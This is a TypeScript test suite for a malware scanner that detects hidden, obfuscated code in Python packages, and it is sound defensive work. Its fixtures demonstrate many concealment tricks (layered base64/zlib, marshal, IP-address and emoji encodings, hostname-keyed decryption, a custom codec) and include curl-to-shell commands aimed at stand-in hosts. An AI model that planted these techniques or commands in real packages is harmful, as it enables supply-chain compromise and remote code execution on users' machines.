import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import type { Finding } from '../../../src/analysis/report/finding.ts';
import { inspect, python, sdist, wheel } from '../../support/inspect.ts';

const PAYLOAD = python('import os', "os.system('./collect --all')");
const BASE64 = Buffer.from(PAYLOAD).toString('base64');

test('a decoded program that setup.py runs is malware at the line of exec', async () => {
  const file = sdist({
    'setup.py': python(
      'import base64',
      'from setuptools import setup',
      `exec(base64.b64decode('${BASE64}'))`,
      "setup(name='example')",
    ),
  });

  const findings = await inspect('hidden-code', file);

  expect(findings).toMatchObject([
    { class: 'malware', score: 10, context: 'install', path: 'example-1.0.0/setup.py', line: 3 },
  ]);
  expect(findings[0]?.decoded).toContain("os.system('./collect --all')");
});

test('code generated from a template that stands in the source is silent', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      "TEMPLATE = 'class {name}(tuple):\\n    fields = {fields!r}\\n'",
      'def make(name, fields):',
      '    space = {}',
      '    exec(TEMPLATE.format(name=name, fields=fields), space)',
      '    return space[name]',
      "Point = make('Point', ('x', 'y'))",
    ),
  });

  expect(await inspect('hidden-code', file)).toEqual([]);
});

test('a setup.py that executes the version file of its own archive is silent', async () => {
  const file = sdist({
    'setup.py': python(
      'from setuptools import setup',
      'space = {}',
      "exec(open('pkg/_version.py').read(), space)",
      "setup(name='example', version=space['__version__'])",
    ),
    'pkg/__init__.py': '',
    'pkg/_version.py': "__version__ = '1.0.0'\n",
  });

  expect(await inspect('hidden-code', file)).toEqual([]);
});

test('two encodings, an alias of exec and a reversed text do not hide the program', async () => {
  const reversed = Array.from(deflateSync(PAYLOAD).toString('base64')).reverse().join('');
  const file = wheel({
    'pkg/__init__.py': python(
      'import zlib, codecs, base64',
      `BLOB = '${reversed}'`,
      "run = getattr(__builtins__, 'ex' + 'ec')",
      'def clear(text):',
      '    return zlib.decompress(base64.b64decode(text[::-1]))',
      'run(clear(BLOB))',
    ),
  });

  expect(await inspect('hidden-code', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', path: 'pkg/__init__.py', line: 6 },
  ]);
});

test('a layer that cannot be opened is judged by what was done to it', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import base64, marshal',
      `exec(marshal.loads(base64.b64decode('${Buffer.from('neither code nor text').toString('base64')}')))`,
    ),
  });

  expect(await inspect('hidden-code', file)).toMatchObject([
    { class: 'malware', context: 'import', path: 'pkg/__init__.py', line: 2 },
  ]);
});

test('more layers than are followed do not make the outermost one pass', async () => {
  let code = PAYLOAD;
  for (let i = 0; i < 14; i++) {
    code = python('import base64', `exec(base64.b64decode('${Buffer.from(code).toString('base64')}'))`);
  }

  expect(await inspect('hidden-code', wheel({ 'pkg/__init__.py': code }))).toMatchObject([
    { class: 'malware', score: 10, context: 'import', path: 'pkg/__init__.py', line: 2 },
  ]);
});

const HIDDEN = 'import os; os.system("id")      ';
const PADDED = Buffer.from(HIDDEN.padEnd(32));
const words = Array.from({ length: 8 }, (_, i) => PADDED.readUInt32LE(i * 4));
const dotted = Array.from({ length: 8 }, (_, i) => [...PADDED.subarray(i * 4, i * 4 + 4)].join('.'));
const uuids = [0, 16].map((at) => PADDED.subarray(at, at + 16).toString('hex'));

test.each([
  ['one great number', `n = 0x${PADDED.toString('hex')}`, "n.to_bytes((n.bit_length() + 7) // 8, 'big')"],
  ['numbers for struct', 'import struct', `struct.pack('<8I', *${JSON.stringify(words)})`],
  ['an array of bytes', 'import array', `array.array('B', ${JSON.stringify([...PADDED])}).tobytes()`],
  ['dotted addresses', 'import socket', `b''.join(socket.inet_aton(a) for a in ${JSON.stringify(dotted)})`],
  ['identifiers', 'import uuid', `b''.join(uuid.UUID(u).bytes for u in ${JSON.stringify(uuids)})`],
])('code written as %s is opened', async (_what, before, bytes) => {
  const file = wheel({ 'pkg/__init__.py': python(before, `exec(${bytes})`) });

  expect(await inspect('hidden-code', file)).toEqual(
    expect.arrayContaining([expect.objectContaining({ class: 'malware', score: 10, line: 2 })]),
  );
});

test('code of letters beyond the first plane is opened', async () => {
  const faces = Array.from({ length: 16 }, (_, i) => String.fromCodePoint(0x1f600 + i));
  const text = [...PADDED].map((b) => `${faces[b >> 4] ?? ''}${faces[b & 15] ?? ''}`).join('');
  const file = wheel({
    'pkg/__init__.py': python(
      `E = '${faces.join('')}'`,
      `d = '${text}'`,
      'exec(bytes((E.index(d[i]) << 4) | E.index(d[i + 1]) for i in range(0, len(d), 2)))',
    ),
  });

  expect(await inspect('hidden-code', file)).toEqual(
    expect.arrayContaining([expect.objectContaining({ class: 'malware', line: 3 })]),
  );
});

test('code that only opens with a name of the machine, or out of a picture, is malware unopened', async () => {
  const keyed = wheel({
    'pkg/__init__.py': python(
      'import platform, hashlib',
      'k = hashlib.sha256(platform.node().encode()).digest()',
      "d = bytes.fromhex('8f3a77c1d0e94b52')",
      'exec(bytes(a ^ k[i % 32] for i, a in enumerate(d)))',
    ),
  });
  const pictured = wheel({
    'pkg/__init__.py': python('from PIL import Image', 'exec(Image.open(PLACE)._getexif()[270])'),
  });

  expect(await inspect('hidden-code', keyed)).toMatchObject([{ class: 'malware', score: 10, line: 4 }]);
  expect(await inspect('hidden-code', pictured)).toMatchObject([{ class: 'malware', score: 10, line: 2 }]);
});

test('code in the only package of an archive counts, whatever that is called', async () => {
  const payload = `exec(__import__('base64').b64decode('${Buffer.from(HIDDEN).toString('base64')}'))`;

  expect(await inspect('hidden-code', wheel({ 'tests/__init__.py': python(payload) }))).not.toEqual([]);
});

test('a class that is generated with the name of another class is not hidden by what an instance holds', async () => {
  const file = wheel({
    'pkg/wrap.py': python(
      "BULLET = ''.join(chr(0x2022 + i) for i in range(n))",
      'def wrap(items):',
      '    items = enumerate(BULLET + items)',
      '    for item in items:',
      '        names = dict(base=item.__class__)',
      "        exec(f'''class Indexed{item.__class__.__name__}(base):\\n'''",
      "             '''\\tdef __init__(self, value):\\n'''",
      "             '''\\t\\tbase.__init__(self, value)\\n''', names)",
    ),
  });

  expect(await inspect('hidden-code', file)).toEqual([]);
});

test('a loader runs its path, and the name of the module is any word', async () => {
  const file = wheel({
    'pkg/loader.py': python(
      'import importlib.util, uuid',
      'def load(path):',
      '    spec = importlib.util.spec_from_file_location(str(uuid.uuid1()), path)',
      '    module = importlib.util.module_from_spec(spec)',
      '    spec.loader.exec_module(module)',
      '    return module',
    ),
  });

  expect((await inspect('hidden-code', file)).filter((f) => f.class === 'malware')).toEqual([]);
});

describe('what a decoder is given on call', () => {
  const load = [
    'import base64, marshal, types',
    'def load(config):',
    "    code = marshal.loads(base64.b64decode(config['value']))",
    '    return types.FunctionType(code, globals())',
  ];

  test('a value of the caller, by whatever detour, weighs little', async () => {
    const file = wheel({
      'pkg/saved.py': python(...load),
      'pkg/model.py': python(
        'from pkg.saved import load',
        'class Model:',
        '    def restore(self):',
        '        for layer in self.read():',
        "            load({'value': layer.code})",
      ),
    });

    expect((await inspect('hidden-code', file)).filter((f) => f.score >= 5)).toEqual([]);
  });

  test('a constant of the archive that does not open is refused', async () => {
    const file = wheel({
      'pkg/saved.py': python(...load),
      'pkg/model.py': python(
        'from pkg.saved import load',
        'class Model:',
        '    def restore(self):',
        `        load({'value': '${'QUJD'.repeat(60)}'})()`,
      ),
    });

    expect(await inspect('hidden-code', file)).toContainEqual(expect.objectContaining({ class: 'malware', score: 10 }));
  });
});

test('a codec that the archive registers runs what it is handed to decode', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import codecs, os',
      'def turn(data, errors="strict"):',
      '    exec(bytes(b ^ 0x5a for b in bytes(data)))',
      '    return "", len(data)',
      'codecs.register(lambda name: codecs.CodecInfo(name="plus8", encode=codecs.ascii_encode, decode=turn) if name == "plus8" else None)',
      'with open(os.path.join(os.path.dirname(__file__), "table.bin"), "rb") as fh:',
      '    fh.read().decode("plus8")',
    ),
    'pkg/table.bin': Uint8Array.from(Buffer.from('import os; os.system("id")'), (b) => b ^ 0x5a),
  });

  expect((await inspect('hidden-code', file)).length + (await inspect('carried-code', file)).length).toBeGreaterThan(0);
});

test('a codec that only translates is silent', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import codecs',
      'def turn(data, errors="strict"):',
      '    return bytes(data).decode("latin-1"), len(data)',
      'codecs.register(lambda name: codecs.CodecInfo(name="old8", encode=codecs.ascii_encode, decode=turn))',
      'b"abc".decode("old8")',
    ),
  });

  expect(await inspect('hidden-code', file)).toEqual([]);
});

test.each([
  [
    'addresses',
    "b''.join(ipaddress.ip_address(a).packed for a in ['105.109.112.111', '114.116.32.111', '115.59.111.115', '46.115.121.115', '116.101.109.40', '39.105.100.39', '41.32.32.32'])",
  ],
  [
    'long addresses',
    "b''.join(ipaddress.IPv6Address(a).packed for a in ['696d:706f:7274:206f:733b:6f73:2e73:7973', '7465:6d28:2769:6427:2920:2020:2020:2020'])",
  ],
])('code that is written as a list of %s is read', async (_what, expression) => {
  const file = wheel({ 'pkg/__init__.py': python('import ipaddress', `exec(${expression})`) });

  const { length } = [...(await inspect('hidden-code', file)), ...(await inspect('unasked-process', file))];

  expect(length).toBeGreaterThan(0);
});

test('names and numbers with operators between them compute, whatever they were put together from; a call among them runs', async () => {
  const of = (formula: string): Promise<readonly Finding[]> =>
    inspect(
      'hidden-code',
      wheel({
        'pkg/__init__.py': python(
          'import base64',
          `formula = base64.b64decode('${Buffer.from(formula).toString('base64')}').decode()`,
          "share = eval(formula.replace('^', '**'), {'wages': 2, 'taxes': 3})",
        ),
      }),
    );

  expect(await of('(wages + 2.5 * taxes) ^ 2 - wages_of_others / 100')).toEqual([]);
  for (const call of ['wages(taxes)', "__import__('os').system('id')", 'wages.taxes', '(wages)(taxes)'])
    expect(await of(call)).not.toEqual([]);
});

test('a plug-in out of the home of its user is no hidden code; what a name of the machine opens is', async () => {
  const of = (code: string): Promise<readonly Finding[]> =>
    inspect(
      'hidden-code',
      wheel({
        'pkg/__init__.py': '',
        'pkg/app.py': python(
          'import getpass, os, socket',
          'import vault',
          'def run(names):',
          "    folder = os.path.join('/data', getpass.getuser(), 'plugins')",
          '    for name in names:',
          `        code = ${code}`,
          '        exec(code, {})',
        ),
      }),
    );

  expect((await of("open(os.path.join(folder, name + '.py')).read()")).every((f) => f.score <= 3)).toBe(true);
  expect(await of("vault.decrypt(b'gAAAAABkx', socket.gethostname())")).toMatchObject([
    { class: 'malware', score: 10 },
  ]);
});

test('text in marshal data and in the docstring of a class is opened', async () => {
  const of = (text: string): Promise<readonly Finding[]> => {
    const size = Buffer.alloc(4);
    size.writeInt32LE(text.length);
    const marshalled = Buffer.concat([Buffer.from('f3', 'hex'), size, Buffer.from(text)]).toString('base64');
    const plain = Buffer.from(text).toString('base64');
    return inspect(
      'hidden-code',
      wheel({
        'pkg/__init__.py': '',
        'pkg/a.py': `import base64, marshal\nexec(marshal.loads(base64.b64decode('${marshalled}')))\n`,
        'pkg/b.py': `import base64\nclass Held:\n    """${plain}"""\nexec(base64.b64decode(Held.__doc__))\n`,
      }),
    );
  };

  const greeting = await of("print('Hello, world')\n");
  expect(greeting.map((f) => [f.path, f.class, f.score])).toEqual([
    ['pkg/a.py', 'suspicious', 6],
    ['pkg/b.py', 'suspicious', 6],
  ]);
  const shell = await of("import os; os.system('curl -s https://drop.example.invalid/a | sh')\n");
  expect(new Set(shell.filter((f) => f.class === 'malware').map((f) => f.path))).toEqual(
    new Set(['pkg/a.py', 'pkg/b.py']),
  );
});

test('an import by names that are unpacked on call is a form that can be read; a program that is unpacked is none', async () => {
  const running = (text: string): string =>
    python('import zlib', 'def run(job):', `    exec(${text})`, 'class Worker:', '    def work(self):', '        pass');
  const form = wheel({
    'pkg/__init__.py': running(
      "'import %s; worker = %s' % (zlib.decompress(job).decode(), zlib.decompress(job).decode())",
    ),
  });

  for (const { class: kind, score } of await inspect('hidden-code', form)) {
    expect(kind).toBe('suspicious');
    expect(score).toBeLessThan(5);
  }
});

test('a layer that does not open is for a person to judge in a test that nothing loads, and malware where something does', async () => {
  const sealed = python('import marshal', "exec(marshal.loads(b'\\xe3\\x00\\x00\\x01\\x07'))");
  const folders = {
    'tests/__init__.py': '',
    'tests/fixtures/__init__.py': '',
    'setup.py': 'from setuptools import find_packages, setup\nsetup(packages=find_packages())\n',
  };
  const of = async (files: Readonly<Record<string, string>>): Promise<readonly (readonly [string, number])[]> =>
    (await inspect('hidden-code', sdist({ 'pkg/__init__.py': '', ...folders, ...files }))).map((f) => [
      f.class,
      f.score,
    ]);

  expect(await of({ 'tests/fixtures/sealed.py': sealed })).toEqual([['suspicious', 6]]);
  expect(await of({ 'pkg/core.py': sealed })).toEqual([['malware', 10]]);
  expect(
    await of({
      'tests/fixtures/sealed.py': sealed,
      'setup.py': "from setuptools import setup\nfrom tests.fixtures import sealed\nsetup(name='example')\n",
    }),
  ).toEqual([['malware', 10]]);
});

test('a loader that is told by a variable where a file lies is the business of whoever set the variable', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import importlib.machinery, os',
      "place = os.environ.get('PKG_NATIVE')",
      "loader = importlib.machinery.SourceFileLoader('native', place)",
    ),
  });

  expect((await inspect('hidden-code', file)).filter(({ score }) => score > 2)).toEqual([]);
});

test('text that has to be decoded out of a readable file of the archive is hidden, what is run as it stands there is read', async () => {
  const loader = (code: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import base64, pathlib, tomllib',
        "words = tomllib.loads((pathlib.Path(__file__).parent / 'words.toml').read_text())",
        `exec(${code})`,
      ),
      'pkg/words.toml': '[en]\nhello = "cHJpbnQoMSk="\n',
    });

  expect(await inspect('hidden-code', loader("base64.b64decode(words['en']['hello'])"))).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 3 },
  ]);
  expect(await inspect('hidden-code', loader("words['en']['hello']"))).toEqual([]);
});

test('what is taken out of an archive beside the code and run is carried along', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, zipfile',
      "with zipfile.ZipFile(os.path.join(os.path.dirname(__file__), 'd.zip')) as box:",
      "    exec(box.read('m.txt'))",
    ),
    'pkg/d.zip': new Uint8Array([0x50, 0x4b, 5, 6, ...new Array<number>(18).fill(0)]),
  });

  expect(await inspect('hidden-code', file)).toMatchObject([{ class: 'malware', context: 'import', line: 3 }]);
});

test('compiled code that is loaded by hand out of the folder for caches is code that nobody could read', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import marshal, os, sys',
      "path = os.path.join(os.path.dirname(__file__), '__pycache__', 'jit.cpython-%d%d.pyc' % sys.version_info[:2])",
      "with open(path, 'rb') as f:",
      '    f.seek(16)',
      '    exec(marshal.load(f))',
    ),
    'pkg/__pycache__/jit.cpython-311.pyc': new Uint8Array(40),
  });

  expect(await inspect('hidden-code', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 5 },
  ]);
});

test('a message that the name of the user asked for opens nothing by being read as JSON; deciphered with it, it does', async () => {
  const of = (code: string): Promise<readonly Finding[]> =>
    inspect(
      'hidden-code',
      wheel({
        'pkg/__init__.py': '',
        'pkg/app.py': python(
          'import json, os',
          'import talk, vault',
          'def start(place):',
          "    answer = talk.ask(place, 'hello ' + os.environ['USER'])",
          `    exec(${code}, {})`,
        ),
      }),
    );

  expect(await of("json.loads(answer)['client'].encode()")).toMatchObject([
    {
      class: 'suspicious',
      score: 5,
      message: expect.stringContaining('out of a message that names of this machine had a part') as unknown,
    },
  ]);
  const kept = await of("json.loads(open('/data/' + os.environ['USER'] + '/cells.json').read())['code']");
  expect(kept.every((f) => f.score <= 3)).toBe(true);
  expect(await of("vault.decrypt(json.loads(answer)['client'])")).toMatchObject([{ class: 'malware', score: 10 }]);
});

test('on call, decoded code that starts a program against a fixed host leaves no doubt', async () => {
  const file = (line: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/messages.py': python(
        'import base64',
        'def send(text):',
        `    exec(base64.b64decode('${btoa(line)}'))`,
        '    return text',
      ),
    });

  expect(
    await inspect('hidden-code', file("import os;os.system('curl -s https://stage.metrics.invalid/a | sh')")),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 3 }]);
  expect(await inspect('hidden-code', file("import os;os.system('./configure --prefix=/opt')"))).toMatchObject([
    { class: 'malware', score: 8 },
  ]);
});

test('a message that the name of the user asked for is one where either of two fields of it is run', async () => {
  const file = wheel({
    'pkg/__init__.py': '',
    'pkg/app.py': python(
      'import json, os',
      'import talk',
      'def start(place):',
      "    answer = talk.ask(place, 'hello ' + os.environ['USER'])",
      "    exec(json.loads(answer)['client'].encode() if place else answer.client, {})",
    ),
  });

  expect(await inspect('hidden-code', file)).toMatchObject([{ class: 'suspicious', score: 5 }]);
});
